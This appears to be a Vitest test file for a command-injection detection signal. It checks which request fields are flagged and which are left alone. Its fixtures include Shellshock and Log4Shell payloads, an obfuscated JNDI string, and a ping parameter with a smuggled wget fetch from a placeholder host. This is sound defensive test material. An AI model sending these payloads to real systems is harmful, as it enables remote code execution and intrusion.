import { describe, expect, it } from 'vitest';
import { commandInjection } from '../../../../lib/signals/network/command-injection.ts';
import { foundIn, silentIn } from '../event-run.ts';

describe('commands in a request', () => {
  it('are seen as Shellshock, Log4Shell and shell separators', () => {
    foundIn(commandInjection, { user_agent: { original: '() { :; }; /bin/bash -c "id"' } });
    foundIn(commandInjection, { url: { original: '/?x=\u0024{jndi:ldap://h.example/a}' } });
    foundIn(commandInjection, { url: { original: '/?x=%24%7B%24%7Blower%3Aj%7Dndi%3Aldap%3A%2F%2Fh.example%7D' } });
    foundIn(commandInjection, '93.184.216.34 - - "GET /ping?host=1.1.1.1;wget+http://h.example/x HTTP/1.1" 200');
    expect(foundIn(commandInjection, { rule: { name: 'Remote code execution attempt' } }).weight).toBeLessThan(1.6);
  });
  it('are not ordinary parameters, nor commands on a machine', () => {
    silentIn(commandInjection, { url: { original: '/download?file=report;v=2&id=17' } });
    silentIn(commandInjection, { url: { original: '/a?x=1&id=5&ping=7' } });
    silentIn(commandInjection, { process: { command_line: 'sh -c "x; wget http://h.example"' } });
  });
});
